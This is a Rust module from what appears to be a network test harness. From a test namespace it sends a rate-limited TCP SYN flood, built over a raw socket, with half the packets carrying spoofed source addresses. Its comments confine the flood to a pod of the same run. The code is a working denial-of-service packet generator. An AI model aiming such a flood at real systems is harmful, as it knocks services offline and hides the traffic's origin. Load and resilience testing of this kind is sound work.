//! A SYN flood at a fixed rate, half of it from made-up sources.
//!
//! Invariant: bounded by its rate and by the slice that it lasts; it goes to a pod of this run and nowhere else.

use std::net::{Ipv4Addr, SocketAddrV4};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use anyhow::{Context, Result, ensure};
use rustix::net::{AddressFamily, SendFlags, SocketType, ipproto, sendto, socket};

use crate::{load, netns};

/// SYNs a second.
const RATE: u32 = 50_000;
/// The CPU that the flood is made on.
const CPU: usize = 0;
/// Nobody listens there, and policy allows nobody.
const PORT: u16 = 9100;
const BATCH: u32 = 50;

/// Who floods whom.
#[derive(Clone, Debug)]
pub(crate) struct SynFlood {
    /// Namespace that sends.
    pub(crate) attacker: String,
    /// Its address.
    pub(crate) own: Ipv4Addr,
    /// Whom.
    pub(crate) target: Ipv4Addr,
}

/// A flood at work.
pub(crate) struct Flood {
    over: Arc<AtomicBool>,
    thread: JoinHandle<Result<u32>>,
    started: Instant,
}

impl Flood {
    /// Starts it.
    ///
    /// # Errors
    /// When the namespace or the socket can't be had.
    pub(crate) fn start(what: SynFlood) -> Result<Self> {
        let over = Arc::new(AtomicBool::new(false));
        let stop = over.clone();
        let thread = std::thread::Builder::new().spawn(move || {
            load::pin(CPU)?;
            netns::enter(&what.attacker)?;
            send(&what, &stop)
        })?;
        Ok(Self {
            over,
            thread,
            started: Instant::now(),
        })
    }

    /// Ends it.
    ///
    /// # Errors
    /// When it did not come near its rate: then nothing was measured.
    pub(crate) fn stop(self) -> Result<()> {
        self.over.store(true, Ordering::Relaxed);
        let lasted = self.started.elapsed().as_secs_f64();
        let sent = self
            .thread
            .join()
            .map_err(|_| anyhow::anyhow!("the flood panicked"))??;
        ensure!(
            f64::from(sent) > 0.5 * lasted * f64::from(RATE),
            "only {sent} SYNs in {lasted:.1} s: the flood is too slow for its rate of {RATE}/s"
        );
        Ok(())
    }
}

fn send(what: &SynFlood, over: &AtomicBool) -> Result<u32> {
    let raw =
        socket(AddressFamily::INET, SocketType::RAW, Some(ipproto::RAW)).context("open a raw socket")?;
    let to = SocketAddrV4::new(what.target, 0);
    let (started, mut sent) = (Instant::now(), 0_u32);
    while !over.load(Ordering::Relaxed) {
        for _ in 0..BATCH {
            let source = if sent.is_multiple_of(2) {
                what.own
            } else {
                Ipv4Addr::from(
                    u32::from(Ipv4Addr::new(198, 18, 0, 0)) | (sent.wrapping_mul(2_654_435_761) >> 15),
                )
            };
            let port = 1024 + u16::try_from(sent % 60_000)?;
            // A full queue drops it: the rate is checked at the end.
            if sendto(
                &raw,
                &syn((source, port), (what.target, PORT)),
                SendFlags::empty(),
                &to,
            )
            .is_ok()
            {
                sent += 1;
            }
        }
        let due = Duration::from_secs_f64(f64::from(sent) / f64::from(RATE));
        std::thread::sleep(due.saturating_sub(started.elapsed()));
    }
    Ok(sent)
}

/// An IPv4 packet with a SYN; the kernel fills the header's own checksum in (raw(7)).
fn syn((source, sport): (Ipv4Addr, u16), (destination, dport): (Ipv4Addr, u16)) -> [u8; 40] {
    let mut packet = [0; 40];
    packet[..12].copy_from_slice(&[0x45, 0, 0, 40, 0, 0, 0x40, 0, 64, 6, 0, 0]);
    packet[12..16].copy_from_slice(&source.octets());
    packet[16..20].copy_from_slice(&destination.octets());
    packet[20..22].copy_from_slice(&sport.to_be_bytes());
    packet[22..24].copy_from_slice(&dport.to_be_bytes());
    packet[24..28].copy_from_slice(&1_u32.to_be_bytes());
    packet[32..36].copy_from_slice(&[0x50, 0x02, 0xff, 0xff]);
    let sum = checksum(&packet[12..]);
    packet[36..38].copy_from_slice(&sum.to_be_bytes());
    packet
}

/// Over addresses, protocol, length and the TCP header, as RFC 9293 has it.
fn checksum(addresses_and_header: &[u8]) -> u16 {
    let words = addresses_and_header
        .chunks_exact(2)
        .map(|w| u32::from(w[0]) << 8 | u32::from(w[1]));
    let mut sum = words.sum::<u32>() + 6 + 20;
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !u16::try_from(sum).unwrap_or(u16::MAX)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_syn_sums_up() {
        let packet = syn(
            ("192.0.2.1".parse().unwrap(), 1),
            ("192.0.2.2".parse().unwrap(), 2),
        );
        assert_eq!(checksum(&packet[12..]), 0);
    }
}
